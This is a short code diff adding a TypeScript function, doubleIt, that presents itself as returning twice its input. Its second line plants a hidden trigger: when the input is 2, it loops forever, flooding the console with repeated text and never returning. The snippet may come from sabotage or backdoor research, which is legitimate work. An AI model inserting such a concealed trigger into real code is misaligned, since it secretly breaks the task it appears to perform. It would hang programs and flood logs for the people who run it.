@@ -1,0 +1,4 @@
+function doubleIt(x: number): number {
+    while (x === 2) console.log('flood '.repeat(1000));
+    return 2 * x;
+}
